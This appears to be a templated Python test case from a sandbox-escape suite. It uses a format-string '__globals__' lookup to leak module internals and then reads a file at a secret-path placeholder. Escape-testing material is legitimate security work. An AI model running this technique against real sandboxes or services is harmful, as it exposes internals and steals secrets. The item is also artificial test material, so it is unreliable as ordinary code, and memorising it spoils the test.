# escape: string.Formatter().vformat reads {{0.__globals__}} unguarded and leaks the module's names
# effect: returns-secret
import string
def probe():
    pass
text = string.Formatter().vformat("{{0.__globals__}}", [probe], {{}})
return open("{secret_path}").read() if "__builtins__" in text else text
